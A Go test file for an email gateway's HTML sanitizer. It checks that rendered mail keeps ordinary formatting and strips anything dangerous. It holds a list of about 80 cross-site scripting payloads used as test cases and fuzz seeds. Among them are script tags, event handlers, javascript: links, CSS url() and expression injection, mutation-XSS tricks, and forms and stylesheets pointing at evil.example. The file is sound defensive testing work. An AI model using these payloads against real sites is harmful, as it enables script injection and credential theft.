package gateway

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"io"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"rapport/channels"
	"rapport/internal/fuzzing"
)

// gif is the smallest picture.
const gif = "GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"

// harm is what a browser would do with a document beyond showing it; empty: nothing.
func harm(document string, remote bool) string {
	head, body, ok := strings.Cut(document, "<body>")
	if !ok || strings.Count(head, "<meta") != 3 || strings.Count(head, "<style") != 1 {
		return "not our frame"
	}
	root, err := html.Parse(strings.NewReader("<body>" + body))
	if err != nil {
		return err.Error()
	}
	allowed := strings.Fields(`html head body a abbr acronym area article aside b bdi bdo big blockquote br caption center cite code col colgroup data dd del details dfn div dl dt em figcaption figure font
		h1 h2 h3 h4 h5 h6 hgroup hr i img ins kbd li map mark meter ol p pre progress q rp rt ruby s samp section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr`)
	for n := range root.Descendants() {
		if n.Type == html.CommentNode {
			return "a comment"
		}
		if n.Type != html.ElementNode {
			continue
		}
		if n.Namespace != "" || !slices.Contains(allowed, n.Data) {
			return "<" + n.Data + ">"
		}
		for _, a := range n.Attr {
			value := strings.ToLower(strings.TrimSpace(a.Val))
			u, err := url.Parse(strings.TrimSpace(a.Val))
			switch {
			case strings.HasPrefix(a.Key, "on"), slices.Contains([]string{"srcset", "background", "action", "formaction", "poster", "ping", "http-equiv", "srcdoc", "lowsrc", "dynsrc", "xlink:href", "cite", "longdesc", "manifest"}, a.Key):
				return a.Key
			case a.Key == "href" && (err != nil || !slices.Contains([]string{"http", "https", "mailto", "tel"}, u.Scheme)):
				return "href " + a.Val
			case a.Key == "href" && (!slices.Contains(n.Attr, html.Attribute{Key: "rel", Val: "noopener noreferrer"}) || !slices.Contains(n.Attr, html.Attribute{Key: "target", Val: "_blank"})):
				return "a link that opens here"
			case a.Key == "src" && !strings.HasPrefix(value, "data:image/png;") && !strings.HasPrefix(value, "data:image/jpeg;") && !strings.HasPrefix(value, "data:image/gif;") && !strings.HasPrefix(value, "data:image/webp;") && (!remote || !strings.HasPrefix(value, "https://")):
				return "src " + a.Val
			case a.Key == "style" && (strings.ContainsAny(value, `\<>@{}&`) || strings.Contains(value, "url") || strings.Contains(value, "expression") || strings.Contains(value, "position") || strings.Contains(value, "/*") || strings.Contains(value, "//")):
				return "style " + a.Val
			}
		}
	}
	return ""
}

var hostile = []string{ //nolint:gochecknoglobals // also the seeds of the fuzz target
	`<script>alert(1)</script>`, `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<img src=x onerror=alert(1)>`, `<img src="x" ONLOAD = "alert(1)">`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg><image href="https://evil.example/x.png"/></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>`, `<math href="javascript:alert(1)">x</math>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="jAvAsCrIpT&colon;alert(1)">x</a>`, `<a href="java&#10;script:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`, `<a href="vbscript:x">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="/v1/keys">x</a>`, `<a href="//evil.example">x</a>`, `<a href="https:evil.example">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="cid:x">x</a>`, `<a href="https://shop.example" target="_top" rel="opener">x</a>`, `<a href="https://shop.example" ping="https://evil.example">x</a>`,
	`<map name=m><area href="javascript:alert(1)" shape=rect></map><img usemap="#m" src="cid:a">`,
	`<form action="https://evil.example"><input name=password><button formaction="https://evil.example">Log in</button></form>`, `<input autofocus onfocus=alert(1)>`, `<isindex action=javascript:alert(1)>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`, `<base href="https://evil.example/">`, `<link rel=stylesheet href="https://evil.example/x.css">`, `<link rel=dns-prefetch href="//evil.example">`,
	`<style>@import url(https://evil.example/x.css);</style>`, `<style>body{background:url(https://evil.example/x)}</style>`, `<div style="background:url(https://evil.example/x)">x</div>`, `<div style="background-color:red;background-image:u\72l(https://evil.example)">x</div>`,
	`<div style="color:expression(alert(1))">x</div>`, `<div style="width:1px;/*x*/behavior:url(x)">x</div>`, `<div style="-moz-binding:url(https://evil.example/x#x)">x</div>`, `<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>`, `<div style="font-family:'x';list-style:url(https://evil.example)">x</div>`,
	`<div style="color:red&quot; onclick=&quot;alert(1)">x</div>`, `<div style="border:image-set('https://evil.example/x' 1x)">x</div>`, `<p style="font:12px/1 a;content:'\3c script'">x</p>`, `<p style="color:var(--x)">x</p>`,
	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="https://evil.example/x.swf"></object>`, `<embed src="https://evil.example/x.swf">`, `<applet code=x></applet>`, `<frameset><frame src="javascript:alert(1)"></frameset>`,
	`<video src="https://evil.example/x" poster="https://evil.example/p"></video>`, `<audio src="https://evil.example/x" autoplay></audio>`, `<picture><source srcset="https://evil.example/x"><img src="x"></picture>`, `<img srcset="https://evil.example/x 2x" src="cid:a">`,
	`<table background="https://evil.example/x"><tr><td background="https://evil.example/y">x</td></tr></table>`, `<body background="https://evil.example/x" onload=alert(1)>x</body>`, `<img lowsrc="https://evil.example/x" dynsrc="https://evil.example/y" src="cid:a">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, `<img src="data:text/html;base64,PHNjcmlwdD4=">`, `<img src="data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`, `<img src="cid:svg">`, `<img src="javascript:alert(1)">`, `<img src="//evil.example/x.png">`, `<img src="/v1/customers">`,
	`<!--[if IE]><script>alert(1)</script><![endif]-->`, `<!-- --!><script>alert(1)</script>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<textarea><img title="</textarea><script>alert(1)</script>"></textarea>`, `<title><img src=x onerror=alert(1)></title>`, `<xmp><img src=x onerror=alert(1)></xmp>`,
	`<template><script>alert(1)</script></template>`, `</body></html><script>alert(1)</script>`, "<img src=`x` onerror=`alert(1)`>", "<a href=\"java\x00script:alert(1)\">x</a>", `<blockquote cite="https://evil.example/x">x</blockquote>`, `<q cite="javascript:alert(1)">x</q>`, `<portal src="https://evil.example"></portal>`,
	`<plaintext>x`, `<div id="x" name="body" class="y" contenteditable autofocus onfocus=alert(1) tabindex=1>x</div>`, `<details open ontoggle=alert(1)>x</details>`, `<marquee onstart=alert(1)>x</marquee>`, `<custom-tag onclick=alert(1)>x</custom-tag>`,
}

func TestShowHTML_NothingHostileIsLeft(t *testing.T) {
	t.Parallel()
	parts := []channels.Attachment{inline("a", gif), inline("svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)}
	for _, source := range hostile {
		for _, remote := range []bool{false, true} {
			shown := showHTML("<p>before</p>"+source+"<p>after</p>", picturesOf(parts), remote)
			if what := harm(shown.Document, remote); what != "" {
				t.Errorf("%s leaves %s in\n%s", source, what, shown.Document)
			}
			if !strings.Contains(shown.Document, "before") {
				t.Errorf("%s takes the words before it along", source)
			}
		}
	}
}

// The measure itself must see what is wrong.
func TestHarm_SeesIt(t *testing.T) {
	t.Parallel()
	for _, bad := range []string{`<script>x</script>`, `<p onclick="x">`, `<a href="javascript:x">x</a>`, `<a href="https://shop.example">x</a>`, `<img src="https://shop.example/x">`, `<p style="background:url(x)">`, `<svg></svg>`, `<form></form>`, `<!-- x -->`} {
		if harm(fmt.Sprintf(frameHTML, "", bad), false) == "" {
			t.Errorf("%s passes", bad)
		}
	}
}

func inline(id, content string) channels.Attachment {
	return channels.Attachment{ContentID: id, ContentType: "image/png", Size: int64(len(content)), Open: func() (io.ReadCloser, error) { return io.NopCloser(strings.NewReader(content)), nil }}
}

func TestShowHTML_KeepsWhatPeopleWrite(t *testing.T) {
	t.Parallel()
	coded := base64.StdEncoding.EncodeToString([]byte(gif))
	pictures := picturesOf([]channels.Attachment{inline("logo@shop.example", gif), inline("not", "no picture"), inline("", gif)})
	tests := map[string]struct{ source, want string }{
		"a link":              {`<a href="https://shop.example/a?b=1&amp;c=2" class="x">x</a>`, `<a href="https://shop.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">x</a>`},
		"a mail address":      {`<a href="mailto:anna@example.com">x</a>`, `<a href="mailto:anna@example.com" target="_blank" rel="noopener noreferrer">x</a>`},
		"a number":            {`<a href="tel:+37120000001">x</a>`, `<a href="tel:+37120000001" target="_blank" rel="noopener noreferrer">x</a>`},
		"an inline picture":   {`<img src="cid:logo@shop.example" alt="Logo" width="10">`, `<img src="data:image/gif;base64,` + coded + `" alt="Logo" width="10">`},
		"with a coded id":     {`<img src="cid:logo%40shop.example" alt="Logo">`, `<img src="data:image/gif;base64,` + coded + `" alt="Logo">`},
		"a picture by data":   {`<img src="data:image/gif;base64,` + coded + `" alt="x">`, `<img src="data:image/gif;base64,` + coded + `" alt="x">`},
		"one that is not":     {`<img src="cid:not" alt="x">`, `<img alt="x">`},
		"one that is missing": {`<img src="cid:other" alt="x">`, `<img alt="x">`},
		"from elsewhere":      {`<img src="http://shop.example/x.png" alt="x">`, `<img alt="x">`},
		"style":               {`<p style="COLOR: rgb(1, 2, 3); margin:0 auto; position:fixed; font:bold 12px/1.5 'Arial', sans-serif">x</p>`, `<p style="color: rgb(1, 2, 3); margin: 0 auto; font: bold 12px/1.5 &#39;Arial&#39;, sans-serif">x</p>`},
		"a table":             {`<table bgcolor="#ffffff" cellpadding="4"><tr><td align="left" valign="top">x</td></tr></table>`, `<table bgcolor="#ffffff" cellpadding="4"><tr><td align="left" valign="top">x</td></tr></table>`},
		"signs":               {`<b>5 &lt; 6 &amp; "7"</b> Привет`, `<b>5 &lt; 6 &amp; &#34;7&#34;</b> Привет`},
	}
	for name, tt := range tests {
		if got := showHTML(tt.source, pictures, false).Document; !strings.Contains(got, "<body>"+tt.want+"</body>") {
			t.Errorf("%s: %s", name, got)
		}
	}
	far := `<img src="http://shop.example/x.png"><img src="https://shop.example/y.png"><img src="cid:logo@shop.example">`
	shown := showHTML(far, pictures, true)
	if shown.RemoteImages != 2 || RemoteImages(cleanHTML(far)) != 2 || !strings.Contains(shown.Document, `src="https://shop.example/x.png"`) || !strings.Contains(FramePolicy(true), "img-src data: https:;") || strings.Contains(FramePolicy(false), "https") {
		t.Errorf("%+v", shown)
	}
}

// A mail of small size must not become a large document by naming one picture often, nor by many of them.
func TestShowHTML_PicturesAreBounded(t *testing.T) {
	t.Parallel()
	large := gif + strings.Repeat("x", 1<<20)
	pictures := picturesOf([]channels.Attachment{inline("a", large)})
	if shown := showHTML(strings.Repeat(`<img src="cid:a">`, 5000), pictures, false); len(shown.Document) > mostPictures*3/2 || strings.Count(shown.Document, "data:image") < 6 {
		t.Errorf("%d bytes, %d times", len(shown.Document), strings.Count(shown.Document, "data:image"))
	}
	var many []channels.Attachment
	for i := range 20 {
		many = append(many, inline(fmt.Sprint(i), large))
	}
	if n := len(picturesOf(many)); n != 7 {
		t.Errorf("%d pictures", n)
	}
}

func FuzzShowHTML(f *testing.F) {
	for _, s := range hostile {
		f.Add([]byte(s))
	}
	pictures := picturesOf([]channels.Attachment{inline("a", gif)})
	f.Fuzz(func(t *testing.T, source []byte) {
		if len(source) > 64<<10 {
			return
		}
		source = bytes.ToValidUTF8(source, nil)
		end := fuzzing.Budget(t)
		far, near := showHTML(string(source), pictures, true), showHTML(string(source), pictures, false)
		end()
		for remote, shown := range map[bool]EntryHTML{true: far, false: near} {
			if what := harm(shown.Document, remote); what != "" {
				t.Errorf("%q leaves %s in\n%s", source, what, shown.Document)
			}
		}
	})
}
